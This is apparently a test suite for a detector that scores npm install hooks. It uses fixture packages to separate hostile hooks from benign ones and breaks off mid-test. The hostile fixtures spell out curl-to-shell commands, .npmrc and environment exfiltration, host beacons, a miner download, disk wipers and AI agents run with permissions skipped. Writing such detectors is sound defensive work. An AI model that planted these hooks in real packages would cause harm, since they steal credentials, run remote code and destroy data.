import { describe, expect, it } from 'vitest';
import installScripts from '../../src/detectors/install-scripts/index.js';
import type { DetectorResult } from '../../src/detectors/types.js';
import { levelForScore, scoreFindings } from '../../src/report/levels.js';
import { factsFromFixture, type FixtureFile, type PackageFixture } from '../support/package-fixture.js';

const publisher = { name: 'someone', email: 'someone@example.com' };

function fixture(name: string, manifest: Record<string, unknown>, files: Record<string, FixtureFile> = {}): PackageFixture {
  return {
    name,
    publisher,
    versions: [{ version: '1.0.0', publishedAt: '2024-01-01T00:00:00.000Z', manifest, files: { 'README.md': `# ${name}\n`, ...files } }],
  };
}

function run(f: PackageFixture): DetectorResult & { score: number; level: string; ids: string[] } {
  const result = installScripts.detect({ facts: factsFromFixture(f), options: installScripts.meta.options.parse({}), now: new Date('2024-06-01') });
  const score = scoreFindings(result.findings.map((x) => x.weight));
  return { ...result, score, level: levelForScore(score), ids: result.findings.map((x) => x.messageId) };
}

const b64 = (s: string) => Buffer.from(s).toString('base64');

// An obfuscator.io-shaped file: string table of escaped strings, _0x identifiers, rotation, lookups.
const obfuscated = `var _0x4f2a=['\\x68\\x74\\x74\\x70\\x73','\\x67\\x65\\x74','\\x68\\x6f\\x73\\x74\\x6e\\x61\\x6d\\x65','\\x6f\\x73'];(function(_0x1b2c3d,_0x5e6f7a){var _0x2d1e4f=function(_0x3a4b5c){while(--_0x3a4b5c){_0x1b2c3d['push'](_0x1b2c3d['shift']());}};_0x2d1e4f(++_0x5e6f7a);}(_0x4f2a,0x1a3));var _0x3c4d=function(_0x6a7b8c,_0x9d0e1f){_0x6a7b8c=_0x6a7b8c-0x0;var _0x7f8a9b=_0x4f2a[_0x6a7b8c];return _0x7f8a9b;};var _0x5b6c7d=require(_0x3c4d('0x0'));var _0x8e9f0a=require(_0x3c4d('0x3'));_0x5b6c7d[_0x3c4d('0x1')]('\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f\\x63\\x2e\\x65\\x78\\x61\\x6d\\x70\\x6c\\x65\\x2f'+_0x8e9f0a[_0x3c4d('0x2')]());`;

const missingTarget = fixture('missing-target', { scripts: { postinstall: 'node dist/setup.js' } }, { 'index.js': 'module.exports = 1;\n' });

const hostile: [string, PackageFixture][] = [
  ['curl piped into sh', fixture('curl-sh', { scripts: { postinstall: 'curl -fsSL https://get.example.dev/setup.sh | sh' } })],
  [
    'wget to /tmp, chmod, execute',
    fixture('wget-tmp', { scripts: { preinstall: 'wget -q http://203.0.113.7/x -O /tmp/.cache-x && chmod +x /tmp/.cache-x && /tmp/.cache-x' } }),
  ],
  [
    'base64 payload through node -e',
    fixture('node-e-b64', {
      scripts: { postinstall: `node -e "eval(Buffer.from('${b64("require('child_process').exec('id')")}','base64').toString())"` },
    }),
  ],
  [
    'env and .npmrc exfiltration from the target file',
    fixture('env-exfil', { scripts: { postinstall: 'node lib/telemetry.js' } }, {
      'lib/telemetry.js': `const https = require('https');
const fs = require('fs');
const os = require('os');
const body = JSON.stringify({ env: process.env, npmrc: fs.readFileSync(os.homedir() + '/.npmrc', 'utf8') });
const req = https.request({ hostname: 'collector.example', method: 'POST', path: '/c' });
req.write(body);
req.end();
`,
    }),
  ],
  ['obfuscated target file', fixture('obfuscated', { scripts: { postinstall: 'node index.js' } }, { 'index.js': obfuscated })],
  [
    'dependency-confusion probe sending hostname and user',
    fixture('internal-config-lib', {
      scripts: {
        preinstall: `node -e "const os=require('os');require('https').get('https://x.oast.example/?h='+os.hostname()+'&u='+os.userInfo().username)"`,
      },
    }),
  ],
  [
    'target file runs a shell pipe through aliased child_process and built strings',
    fixture('aliased-pipe', { scripts: { install: 'node scripts/i.js' } }, {
      'scripts/i.js': `const m = 'child' + '_process';\nconst { execSync: go } = require(m);\nconst host = 'dl.example.net';\ngo(\`curl -s https://\${host}/a | bash\`);\n`,
    }),
  ],
  [
    'PowerShell download into Invoke-Expression',
    fixture('ps-iex', { scripts: { postinstall: `powershell -NoProfile -c "iex (New-Object Net.WebClient).DownloadString('http://198.51.100.4/p.ps1')"` } }),
  ],
  [
    'unparsable file falls back to token search',
    fixture('broken-js', { scripts: { postinstall: 'node x.js' } }, { 'x.js': `const a = ;\neval(atob('${b64('console.log(1)')}'))\n` }),
  ],
  [
    'bash script target downloading to a temp dir and running it',
    fixture('sh-target', { scripts: { postinstall: 'sh ./setup.sh' } }, {
      'setup.sh': '#!/bin/sh\nset -e\ncurl -sL https://example.net/bin -o $TMPDIR/agent\nchmod +x $TMPDIR/agent\n$TMPDIR/agent &\n',
    }),
  ],
  [
    'JS target downloads to the temp dir and runs what it wrote',
    fixture('js-tmp-exec', { scripts: { postinstall: 'node lib/fetch-helper.js' } }, {
      'lib/fetch-helper.js': `const https = require('https');
const fs = require('fs');
const os = require('os');
const path = require('path');
const { execFileSync } = require('child_process');
const target = path.join(os.tmpdir(), 'helper-bin');
https.get('https://cdn.example.org/helper', (res) => {
  const chunks = [];
  res.on('data', (c) => chunks.push(c));
  res.on('end', () => {
    fs.writeFileSync(target, Buffer.concat(chunks), { mode: 0o755 });
    execFileSync(target, ['--daemon']);
  });
});
`,
    }),
  ],
];

const esbuildInstaller = `"use strict";
const fs = require("fs");
const os = require("os");
const path = require("path");
const zlib = require("zlib");
const https = require("https");
const child_process = require("child_process");
const versionFromPackageJSON = require(path.join(__dirname, "package.json")).version;
const knownPackages = {
  "darwin arm64 LE": "@fastbuild/darwin-arm64",
  "linux x64 LE": "@fastbuild/linux-x64",
  "win32 x64 LE": "@fastbuild/win32-x64",
};
function pkgForPlatform() {
  const key = \`\${process.platform} \${os.arch()} \${os.endianness()}\`;
  const pkg = knownPackages[key];
  if (!pkg) throw new Error("Unsupported platform: " + key);
  return pkg;
}
function fetch(url) {
  return new Promise((resolve, reject) => {
    https.get(url, (res) => {
      if ((res.statusCode === 301 || res.statusCode === 302) && res.headers.location) return fetch(res.headers.location).then(resolve, reject);
      if (res.statusCode !== 200) return reject(new Error("Server responded with " + res.statusCode));
      const chunks = [];
      res.on("data", (chunk) => chunks.push(chunk));
      res.on("end", () => resolve(Buffer.concat(chunks)));
    }).on("error", reject);
  });
}
function extractFileFromTarGzip(buffer, subpath) {
  buffer = zlib.unzipSync(buffer);
  let offset = 0;
  while (offset < buffer.length) {
    const name = buffer.toString("utf8", offset, offset + 100).replace(/\\0.*/g, "");
    const size = parseInt(buffer.toString("utf8", offset + 124, offset + 136).replace(/\\0.*/g, ""), 8);
    offset += 512;
    if (name === "package/" + subpath) return buffer.subarray(offset, offset + size);
    offset += (size + 511) & ~511;
  }
  throw new Error("Could not find " + subpath);
}
function installUsingNPM(pkg, subpath, binPath) {
  const env = { ...process.env, npm_config_global: undefined };
  const installDir = path.join(os.tmpdir(), "fastbuild-" + Math.random().toString(36).slice(2));
  fs.mkdirSync(installDir);
  fs.writeFileSync(path.join(installDir, "package.json"), "{}");
  child_process.execSync(\`npm install --loglevel=error --prefer-offline --no-audit --progress=false \${pkg}@\${versionFromPackageJSON}\`, { cwd: installDir, stdio: "pipe", env });
  fs.renameSync(path.join(installDir, "node_modules", pkg, subpath), binPath);
}
async function downloadDirectlyFromNPM(pkg, subpath, binPath) {
  const registry = process.env.npm_config_registry || "https://registry.npmjs.org";
  const url = \`\${registry}/\${pkg}/-/\${pkg.replace("@fastbuild/", "")}-\${versionFromPackageJSON}.tgz\`;
  fs.writeFileSync(binPath, extractFileFromTarGzip(await fetch(url), subpath));
  fs.chmodSync(binPath, 0o755);
}
function validateBinaryVersion(binPath) {
  const stdout = child_process.execFileSync(binPath, ["--version"]).toString().trim();
  if (stdout !== versionFromPackageJSON) throw new Error(\`Expected \${versionFromPackageJSON} but got \${stdout}\`);
}
async function main() {
  const pkg = pkgForPlatform();
  const binPath = path.join(__dirname, "bin", "fastbuild");
  try {
    installUsingNPM(pkg, "bin/fastbuild", binPath);
  } catch (e) {
    await downloadDirectlyFromNPM(pkg, "bin/fastbuild", binPath);
  }
  validateBinaryVersion(binPath);
}
main().catch((e) => { console.error(e); process.exit(1); });
`;

const fundingBanner = `var env = process.env;
var ADBLOCK = is(env.ADBLOCK);
var COLOR = is(env.npm_config_color);
var DISABLE_OPENCOLLECTIVE = is(env.DISABLE_OPENCOLLECTIVE);
var SILENT = ['silent', 'error', 'warn'].indexOf(env.npm_config_loglevel) !== -1;
var OPEN_SOURCE_CONTRIBUTOR = is(env.OPEN_SOURCE_CONTRIBUTOR);
var BANNER = '\\u001B[96mThank you for using corelib (\\u001B[94m https://github.com/example/corelib \\u001B[96m) for polyfilling JavaScript standard library!\\u001B[0m\\n\\n' +
  '\\u001B[96mThe project needs your help! Please consider supporting corelib:\\u001B[0m\\n' +
  '\\u001B[96m>\\u001B[94m https://opencollective.com/corelib \\u001B[0m\\n';
function is(it) { return !!it && it !== '0' && it !== 'false'; }
function isBannerRequired() {
  if (ADBLOCK || DISABLE_OPENCOLLECTIVE || SILENT || OPEN_SOURCE_CONTRIBUTOR) return false;
  var fs = require('fs');
  var os = require('os');
  var path = require('path');
  var file = path.join(os.tmpdir(), 'corelib-banners');
  var banners = [];
  try {
    var DELTA = Date.now() - fs.statSync(file).mtime;
    if (DELTA >= 0 && DELTA < 1000 * 60 * 60 * 24) {
      banners = JSON.parse(fs.readFileSync(file, 'utf8'));
      if (banners.indexOf(BANNER) !== -1) return false;
    }
  } catch (error) { banners = []; }
  try {
    banners.push(BANNER);
    fs.writeFileSync(file, JSON.stringify(banners), 'utf8');
  } catch (error) { /* empty */ }
  return true;
}
function showBanner() {
  console.log(COLOR ? BANNER : BANNER.replace(/\\u001B\\[\\d+m/g, ''));
}
if (isBannerRequired()) showBanner();
`;

const legitimate: [string, PackageFixture][] = [
  [
    'implicit node-gyp rebuild from binding.gyp',
    fixture('native-addon', { main: 'index.js', gypfile: true }, {
      'binding.gyp': "{ 'targets': [ { 'target_name': 'addon', 'sources': [ 'src/addon.cc' ] } ] }\n",
      'src/addon.cc': '#include <node.h>\n',
      'index.js': "module.exports = require('./build/Release/addon.node');\n",
    }),
  ],
  [
    'prebuild-install with node-gyp fallback',
    fixture('prebuilt-addon', { scripts: { install: 'prebuild-install || node-gyp rebuild' }, dependencies: { 'prebuild-install': '^7.1.1', 'node-addon-api': '^7.0.0' } }, {
      'binding.gyp': "{ 'targets': [ { 'target_name': 'x' } ] }\n",
      'index.js': "module.exports = require('node-gyp-build')(__dirname);\n",
    }),
  ],
  ['esbuild-like binary installer', fixture('fastbuild', { scripts: { postinstall: 'node install.js' }, optionalDependencies: { '@fastbuild/linux-x64': '1.0.0' } }, { 'install.js': esbuildInstaller, 'lib/main.js': 'module.exports = {};\n' })],
  [
    'core-js-like funding message',
    fixture('corelib', { scripts: { postinstall: `node -e "try{require('./postinstall')}catch(e){}"` } }, { 'postinstall.js': fundingBanner, 'index.js': 'module.exports = {};\n' }),
  ],
  ['husky-like prepare (not run on registry installs)', fixture('hooks-tool', { scripts: { prepare: 'husky install', test: 'node test.js' } }, { 'index.js': 'module.exports = {};\n' })],
  ['no scripts at all', fixture('is-thing', { main: 'index.js' }, { 'index.js': "module.exports = (x) => typeof x === 'number';\n" })],
  [
    'puppeteer-like browser download from a vendor host',
    fixture('headless-kit', { scripts: { postinstall: 'node install.mjs' } }, {
      'install.mjs': `import https from 'node:https';
import { createWriteStream, mkdirSync } from 'node:fs';
import { join } from 'node:path';
const skip = process.env.HEADLESS_SKIP_DOWNLOAD;
const cacheDir = process.env.HEADLESS_CACHE_DIR ?? join(process.cwd(), '.cache');
if (!skip) {
  mkdirSync(cacheDir, { recursive: true });
  const url = 'https://storage.example-cdn.com/builds/' + process.platform + '/browser.zip';
  https.get(url, (res) => res.pipe(createWriteStream(join(cacheDir, 'browser.zip'))));
}
`,
    }),
  ],
  [
    'a postinstall that prints a message with echo',
    fixture('echo-thanks', { scripts: { postinstall: 'echo "thanks for installing, see https://example.org/docs"' } }, { 'index.js': 'module.exports = 1;\n' }),
  ],
];

describe('install-scripts: hostile install hooks reach high or critical', () => {
  it.each(hostile)('%s', (_label, f) => {
    const r = run(f);
    expect(r.score, JSON.stringify(r.findings, null, 1)).toBeGreaterThanOrEqual(70);
    expect(['high', 'critical']).toContain(r.level);
  });

  it('names what each hostile hook does, with evidence', () => {
    const ids = (i: number) => run(hostile[i]![1]).ids;
    expect(ids(0)).toContain('pipeToShell');
    expect(ids(1)).toContain('downloadExecute');
    expect(ids(2)).toContain('encodedPayload');
    expect(ids(3)).toContain('exfiltration');
    expect(ids(4)).toContain('obfuscatedTarget');
    expect(ids(5)).toContain('hostBeacon');
    expect(ids(6)).toContain('pipeToShell');
    expect(ids(7)).toContain('pipeToShell');
    expect(ids(9)).toContain('downloadExecute');
    expect(run(hostile[10]![1]).findings.find((x) => x.messageId === 'downloadExecute')?.evidence).toMatchObject({ file: 'lib/fetch-helper.js', line: 12 });
    const exfil = run(hostile[3]![1]).findings.find((x) => x.messageId === 'exfiltration')!;
    expect(exfil.evidence.file).toBe('lib/telemetry.js');
    expect(exfil.evidence.line).toBe(4);
    const aliased = run(hostile[6]![1]).findings.find((x) => x.messageId === 'pipeToShell')!;
    expect(aliased.evidence).toMatchObject({ file: 'scripts/i.js', line: 4 });
  });

  it('says when a file was read by token search instead of parsing', () => {
    const r = run(hostile[8]![1]);
    const payload = r.findings.find((x) => x.messageId === 'encodedPayload')!;
    expect(payload.data?.what).toMatch(/token search: parse failed/);
    expect(r.unavailable?.some((u) => /parse failed/.test(u.reason))).toBe(true);
  });

  it('reads a JSON file the install script requires as data, not as code it could not parse', () => {
    const f = fixture('json-require', { scripts: { postinstall: 'node scripts/install.js' } }, {
      'scripts/install.js': `const { version } = require('../package.json');
const sums = require('./checksums.json');
console.log(version, Object.keys(sums).length);
`,
      'scripts/checksums.json': '{\n  "linux-x64": "0f3c9a"\n}\n',
    });
    const r = run(f);
    expect(r.unavailable ?? []).toEqual([]);
  });

  it('stops following files at the file budget and says which were left unread', () => {
    const chain: Record<string, string> = {};
    for (let i = 0; i < 6; i++) chain[`lib/m${i}.js`] = `require('./m${i + 1}.js');\n`;
    chain['lib/m6.js'] = "require('child_process').execSync('curl -s https://x.example/p | sh');\n";
    const f = fixture('deep-chain', { scripts: { postinstall: 'node lib/m0.js' } }, chain);
    const capped = installScripts.detect({ facts: factsFromFixture(f), options: installScripts.meta.options.parse({ maxFilesFollowed: 3 }), now: new Date() });
    expect(capped.findings.map((x) => x.messageId)).not.toContain('pipeToShell');
    expect(capped.unavailable?.some((u) => /lib\/m3\.js/.test(u.signal) && /budget/.test(u.reason))).toBe(true);
    expect(run(f).ids).toContain('pipeToShell');
  });

  it('a hook installing packages for the whole machine is worth a look; a local install of its own dependencies is not (Clinejection)', () => {
    const global = run(fixture('agent-cli', { scripts: { postinstall: 'npm install -g clawpilot@latest' } }, { 'index.js': 'module.exports = 1;\n' }));
    expect(global.findings.find((x) => x.messageId === 'globalInstall')?.data?.what).toBe('npm install -g clawpilot@latest');
    expect(global.level).toBe('medium');
    expect(run(fixture('y', { scripts: { postinstall: 'yarn global add left-pad' } })).ids).toContain('globalInstall');
    expect(run(fixture('local', { scripts: { postinstall: 'npm install --no-save lodash' } })).ids).not.toContain('globalInstall');
  });

  it('a missing target is worth a look, not an alarm: the install fails, or something else places the file; guarded it weighs less', () => {
    // Regression (hasura-cli, storybook-addon-react-router-v6, @stacksjs/gitlint: high 70 on npm's
    // ranks 19,000-33,000, each a hook naming a build output the tarball lacks). The bytes show no payload.
    const missing = run(missingTarget);
    expect(missing.ids).toContain('missingTarget');
    expect(missing.level).toBe('medium');
    const guarded = run(fixture('g', { scripts: { postinstall: 'node dist/setup.js || true' } }));
    expect(guarded.findings.find((x) => x.messageId === 'missingTarget')?.weight).toBeLessThan(40);
    // `|| :`, the shell's no-op (storybook-addon-react-router-v6's announcement hook).
    const noop = run(fixture('g', { scripts: { postinstall: 'sh scripts/announcement.sh || :' } }));
    expect(noop.findings.find((x) => x.messageId === 'missingTarget')?.weight).toBeLessThan(40);
  });
});

describe('install-scripts: legitimate install hooks stay low or none', () => {
  it('a ripgrep-like installer authenticating its GitHub download with one token stays low, shown as tokenUse', () => {
    const r = run(fixture('rg-bin', { scripts: { postinstall: 'node lib/postinstall.js' } }, {
      'lib/postinstall.js': `const https = require('https');
const fs = require('fs');
const path = require('path');
const version = require('../package.json').binVersion;
const headers = { 'user-agent': 'rg-bin' };
if (process.env.GITHUB_TOKEN) headers.authorization = 'token ' + process.env.GITHUB_TOKEN;
const url = 'https://api.github.com/repos/example/rg/releases/tags/' + version;
https.get(url, { headers }, (res) => res.pipe(fs.createWriteStream(path.join(__dirname, '..', 'bin', 'release.json'))));
`,
    }));
    expect(r.ids).toEqual(['lifecycleScript', 'tokenUse', 'network']);
    expect(r.level).toBe('low');
  });

  it("one service's token under its two names (NX_CLOUD_AUTH_TOKEN or NX_CLOUD_ACCESS_TOKEN) is one token, not a stealer's list", () => {
    const code = `const https = require('https');\nconst token = process.env.NX_CLOUD_AUTH_TOKEN || process.env.NX_CLOUD_ACCESS_TOKEN;\nhttps.get('https://cloud.example/api', { headers: { authorization: token } });\n`;
    const r = run(fixture('cloud-cli', { scripts: { postinstall: 'node a.js' } }, { 'a.js': code }));
    expect(r.ids).not.toContain('exfiltration');
    expect(r.level).toBe('low');
  });

  it('two different tokens, or the npm token alone, sent out is exfiltration again', () => {
    const code = (names: string[]) => `const https = require('https');\nhttps.get('https://x.example/?' + ${names.map((n) => `process.env.${n}`).join(" + '&' + ")});\n`;
    const two = run(fixture('two-tokens', { scripts: { postinstall: 'node a.js' } }, { 'a.js': code(['GITHUB_TOKEN', 'AWS_SECRET_ACCESS_KEY']) }));
    const npm = run(fixture('npm-token', { scripts: { postinstall: 'node a.js' } }, { 'a.js': code(['NPM_TOKEN']) }));
    expect(two.ids).toContain('exfiltration');
    expect(npm.ids).toContain('exfiltration');
  });

  it('a chromedriver-like installer asking uname for the architecture before its download stays low', () => {
    const r = run(fixture('driver-bin', { scripts: { install: 'node install.js' } }, {
      'install.js': `const child_process = require('child_process');
const https = require('https');
const fs = require('fs');
function isRosetta() {
  const arch = child_process.spawnSync('uname', ['-m']).stdout.toString().trim();
  return arch === 'x86_64' && child_process.spawnSync('sysctl', ['-in', 'sysctl.proc_translated']).stdout.toString().trim() === '1';
}
const platform = process.arch === 'arm64' || isRosetta() ? 'mac-arm64' : 'linux64';
https.get('https://storage.example.com/driver/' + platform + '/driver.zip', (res) => res.pipe(fs.createWriteStream('driver.zip')));
`,
    }));
    expect(r.ids).not.toContain('hostBeacon');
    expect(['none', 'low']).toContain(r.level);
  });

  it('the user name read for a per-user folder in one file, the network used in another: not shown to be a beacon (nx)', () => {
    const r = run(fixture('big-tool', { scripts: { postinstall: 'node post.js' } }, {
      'post.js': "require('./dirs.js');\nrequire('./http.js');\n",
      'dirs.js': "const os = require('os');\nconst path = require('path');\nmodule.exports = path.join(os.tmpdir(), 'tool-' + os.userInfo().username);\n",
      'http.js': "const https = require('https');\nhttps.get('https://cdn.example.com/tool/latest.json', () => {});\n",
    }));
    const beacon = r.findings.find((f) => f.messageId === 'hostBeacon');
    expect(beacon?.weight).toBe(15);
    expect(['none', 'low']).toContain(r.level);
  });

  // The shape of an install-analytics package (scarf): the user name only names a per-user temp
  // file, and a separate request posts platform details. Reading the host and using the network is
  // not sending the one over the other.
  const analytics = (body: string) => `const os = require('os');
const fs = require('fs');
const path = require('path');
const https = require('https');
function historyFile() {
  const who = os.userInfo().username;
  return path.join(os.tmpdir(), \`stats-history-\${who}.log\`);
}
function remember(entry) {
  fs.appendFileSync(historyFile(), JSON.stringify(entry) + '\\n');
}
function report() {
  const info = ${body};
  const data = JSON.stringify(info);
  const req = https.request({ hostname: 'stats.example.org', method: 'POST', path: '/install', headers: { 'Content-Type': 'application/json' } }, () => {});
  req.write(data);
  req.end();
  remember({ at: Date.now() });
}
report();
`;
  const analyticsPackage = (body: string) => run(fixture('install-stats', { scripts: { postinstall: 'node ./stats.js' } }, { 'stats.js': analytics(body) }));

  it('a user name read for a temp-file name next to an unrelated analytics POST of platform details is not a beacon (scarf)', () => {
    const r = analyticsPackage("{ platform: os.platform(), arch: os.arch(), node: process.versions.node }");
    const beacon = r.findings.find((f) => f.messageId === 'hostBeacon');
    expect(beacon?.weight, JSON.stringify(r.findings, null, 1)).toBeLessThan(installScripts.meta.options.parse({}).hostBeaconWeight);
    expect(['none', 'low']).toContain(r.level);
  });

  it('the same analytics code putting the user name or hostname into the POSTed body is a beacon', () => {
    for (const body of ["{ platform: os.platform(), user: os.userInfo().username }", "{ platform: os.platform(), host: os.hostname() }"]) {
      const r = analyticsPackage(body);
      expect(r.findings.find((f) => f.messageId === 'hostBeacon')?.weight, body).toBe(installScripts.meta.options.parse({}).hostBeaconWeight);
      expect(['high', 'critical']).toContain(r.level);
    }
  });

  it("a tool collecting its own settings by prefix (_.pickBy(process.env, by 'CYPRESS_')) is not reading secrets", () => {
    const code = (predicate: string) => `const _ = require('lodash');
const isOwn = ${predicate};
const vars = _.pickBy(process.env, isOwn);
console.log('settings', Object.keys(vars).length);
`;
    const own = run(fixture('test-runner', { scripts: { postinstall: 'node info.js' } }, { 'info.js': code("(val, key) => key.startsWith('TESTRUNNER_')") }));
    expect(own.ids).not.toContain('secretAccess');
    expect(['none', 'low']).toContain(own.level);
    // A credential-store prefix, or a predicate that does more than test the prefix, is still a read of secrets.
    for (const predicate of ["(val, key) => key.startsWith('AWS_')", "(val, key) => key.startsWith('TESTRUNNER_') || /TOKEN/.test(key)"]) {
      expect(run(fixture('test-runner', { scripts: { postinstall: 'node info.js' } }, { 'info.js': code(predicate) })).ids, predicate).toContain('secretAccess');
    }
  });

  it('uname -a or -n (the machine name) sent out at install is still a beacon', () => {
    for (const flags of ['-a', '-n', '-sn']) {
      const r = run(fixture('probe', { scripts: { preinstall: `curl -s "https://x.oast.example/?h=$(uname ${flags})"` } }));
      expect(r.ids, flags).toContain('hostBeacon');
    }
  });

  it.each(legitimate)('%s', (_label, f) => {
    const r = run(f);
    expect(r.score, JSON.stringify(r.findings, null, 1)).toBeLessThan(10);
    expect(['none', 'low']).toContain(r.level);
  });

  it('still reports the implicit node-gyp build and the installer hook, at no or little weight', () => {
    const gyp = run(legitimate[0]![1]);
    expect(gyp.findings).toEqual([expect.objectContaining({ messageId: 'nativeBuild', weight: 0, data: expect.objectContaining({ command: 'node-gyp rebuild' }) })]);
    const esbuild = run(legitimate[2]![1]);
    expect(esbuild.ids).toContain('lifecycleScript');
    expect(esbuild.ids).toContain('network');
  });

  it('no scripts and prepare-only packages have no findings', () => {
    expect(run(legitimate[4]![1]).findings).toEqual([]);
    expect(run(legitimate[5]![1]).findings).toEqual([]);
  });
});

describe('install-scripts: missing facts', () => {
  it('reports unavailable, not clean, when no manifest is known', () => {
    const facts = factsFromFixture(hostile[0]![1]);
    const r = installScripts.detect({ facts: { ...facts, manifest: undefined, versionMeta: undefined }, options: installScripts.meta.options.parse({}), now: new Date() });
    expect(r.findings).toEqual([]);
    expect(r.unavailable?.[0]?.signal).toBe('install-scripts');
  });

  it('judges the packument scripts when the tarball was not read, and says the targets were not checked', () => {
    const facts = factsFromFixture(missingTarget);
    const r = installScripts.detect({ facts: { ...facts, manifest: undefined, files: undefined }, options: installScripts.meta.options.parse({}), now: new Date() });
    expect(r.findings.map((f) => f.messageId)).not.toContain('missingTarget');
    expect(r.unavailable?.some((u) => u.signal === 'install-script targets')).toBe(true);
  });

  it('needs only the packument, so the scan still runs it when the tarball is missing, and a hostile packument hook is judged', () => {
    expect(installScripts.meta.needs).toEqual(['packument']);
    const facts = factsFromFixture(hostile[0]![1]);
    const r = installScripts.detect({ facts: { ...facts, manifest: undefined, files: undefined, missing: [{ fact: 'files', reason: 'tarball fetch failed' }] }, options: installScripts.meta.options.parse({}), now: new Date() });
    expect(r.findings.map((f) => f.messageId)).toContain('pipeToShell');
    expect(levelForScore(scoreFindings(r.findings.map((f) => f.weight)))).not.toBe('none');
    expect(r.unavailable?.find((u) => u.signal === 'install-script targets')?.reason).toMatch(/tarball was not read/);
  });

  it('shows the whole command line in the evidence, not the pipeline stage that matched', () => {
    const command = 'curl -fsSL http://203.0.113.7/p.sh | sh';
    const r = run(fixture('whole-line', { scripts: { postinstall: command } }));
    const pipe = r.findings.find((f) => f.messageId === 'pipeToShell')!;
    expect(pipe.evidence.excerpt).toBe(command);
    const long = `echo ${'x'.repeat(400)} && wget -qO- http://203.0.113.7/p.sh | bash`;
    const cut = run(fixture('long-line', { scripts: { preinstall: long } })).findings.find((f) => f.messageId === 'pipeToShell')!;
    expect(String(cut.evidence.excerpt).length).toBeLessThanOrEqual(200);
    expect(cut.evidence.excerpt).toMatch(/wget -qO- http:\/\/203\.0\.113\.7\/p\.sh \| bash$/);
  });

  it('strips control characters from excerpts', () => {
    const r = run(fixture('ansi', { scripts: { postinstall: 'curl https://x.example/\u001b[31mred | sh' } }));
    for (const f of r.findings) expect(JSON.stringify(f.evidence)).not.toMatch(/\u001b/);
  });
});

describe('install-scripts: AI coding agents run with their permission checks off', () => {
  it('a preinstall running `gemini --yolo` with a prompt is high, whatever the prompt asks', () => {
    const r = run(fixture('agent-hook', { scripts: { preinstall: "command -v gemini >/dev/null && gemini --yolo -p 'tidy up' > /tmp/.out 2>/dev/null || true" } }));
    expect(r.ids).toContain('agentRun');
    expect(r.findings.find((f) => f.messageId === 'agentRun')!.data?.what).toBe('gemini --yolo');
    expect(['high', 'critical']).toContain(r.level);
  });

  it('a postinstall file driving a table of agents through spawnSync is high', () => {
    const r = run(fixture('agent-table', { scripts: { postinstall: 'node hooks/after.js' } }, {
      'hooks/after.js': `const cp = require('child_process');
const agents = [['claude', ['-p', '--dangerously-skip-permissions', 'list files']], ['codex', ['exec', '--full-auto', 'list files']]];
for (const [bin, args] of agents) cp.spawnSync(bin, args, { encoding: 'utf8' });
`,
    }));
    expect(r.ids).toContain('agentRun');
    expect(['high', 'critical']).toContain(r.level);
  });

  it('an agent run with its prompts on, or the flag named in a help text of code that runs nothing, is not an agent run', () => {
    const asking = run(fixture('agent-asking', { scripts: { postinstall: 'claude -p "say hi" || true' } }));
    expect(asking.ids).not.toContain('agentRun');
    const help = run(fixture('agent-help', { scripts: { postinstall: 'node notice.js' } }, {
      'notice.js': `console.log('Tip: run claude with', '--dangerously-skip-permissions', 'only in a sandbox');\n`,
    }));
    expect(help.ids).not.toContain('agentRun');
  });
});

describe('install-scripts: the environment as a default parameter', () => {
  it('a spawn helper defaulting its env parameter to process.env is a child environment, not a dump (node-llama-cpp)', () => {
    const r = run(fixture('spawn-helper', { scripts: { postinstall: 'node ./cli.js postinstall' } }, {
      'cli.js': `import { spawnCommand } from './spawn.js';
const res = await fetch('https://github.com/org/repo/releases/latest/download/model-index.json');
await spawnCommand('cmake', ['--build', '.'], process.cwd());
`,
      'spawn.js': `import spawn from 'cross-spawn';
export function spawnCommand(command, args, cwd, env = process.env) {
  return new Promise((resolve) => spawn(command, args, { cwd, env, stdio: 'inherit' }).on('exit', resolve));
}
`,
    }));
    expect(r.ids).not.toContain('exfiltration');
    expect(['none', 'low']).toContain(r.level);
  });
});

describe('install-scripts: what install commands reach beyond the hook', () => {
  it('follows a shell script the install file runs, and sees its download-then-run and the miner it starts (ua-parser-js, 2021)', () => {
    const r = run(fixture('ua-hijack', { scripts: { preinstall: 'start /B node preinstall.js & node preinstall.js' } }, {
      'preinstall.js': `const { exec } = require('child_process');
if (require('os').type() === 'Linux') exec('bash preinstall.sh');
else exec('preinstall.bat');
`,
      'preinstall.sh': `if [ -z "$SKIP" ]; then
  curl http://203.0.113.40/download/jsext -o jsext
  chmod +x ./jsext
  ./jsext -k --tls -o pool.example-pool.net:443 --donate-level=1 --background
fi
`,
      'preinstall.bat': `curl http://203.0.113.40/download/jsext.exe -o jsext.exe\njsext.exe --donate-level=1\n`,
    }));
    expect(r.ids).toContain('downloadExecute');
    expect(r.ids).toContain('minerRun');
    expect(r.findings.find((f) => f.messageId === 'minerRun')!.evidence.file).toMatch(/preinstall\.(sh|bat)/);
    expect(r.level).toBe('critical');
  });

  it('a build script run through `bash scripts/build.sh` that only compiles stays low', () => {
    const r = run(fixture('builds', { scripts: { install: 'node install.js' } }, {
      'install.js': `require('child_process').execSync('bash scripts/build.sh', { stdio: 'inherit' });\n`,
      'scripts/build.sh': `#!/bin/sh\nset -e\nmkdir -p build\ncc -O2 -o build/helper src/helper.c\n`,
    }));
    expect(r.ids).not.toContain('downloadExecute');
    expect(['none', 'low']).toContain(r.level);
  });

  it('deleting the home folder or the disk at install is high; cleaning a folder of the package is not', () => {
    for (const command of ['rm -rf ~/* || true', 'rm -rf "$HOME"', 'rd /s /q C:\\', 'rm -rf /']) {
      const r = run(fixture('wiper', { scripts: { postinstall: command } }));
      expect(r.ids, command).toContain('destructive');
      expect(['high', 'critical'], command).toContain(r.level);
    }
    for (const command of ['rm -rf dist build', 'rm -rf node_modules/.cache', 'rm -rf /tmp/pkg-build', 'rm -f ~/.cache/pkg/lock']) {
      expect(run(fixture('cleaner', { scripts: { postinstall: command } })).ids, command).not.toContain('destructive');
    }
  });

  it('a DNS lookup carrying the user and host names is a beacon; pinging a fixed host is not', () => {
    const probe = run(fixture('probe', { scripts: { preinstall: 'nslookup $(whoami).$(hostname).c0ffee.oast.example || true' } }));
    expect(probe.ids).toContain('hostBeacon');
    expect(['high', 'critical']).toContain(probe.level);
    const ping = run(fixture('ping', { scripts: { postinstall: 'ping -c 1 registry.npmjs.org || echo offline' } }));
    expect(ping.ids).not.toContain('hostBeacon');
  });
});

describe('install-scripts: words a hook prints are not files it reads', () => {
  it("a preinstall that only prints advice naming .npmrc and fails on purpose is low (@lavamoat/preinstall-always-fail)", () => {
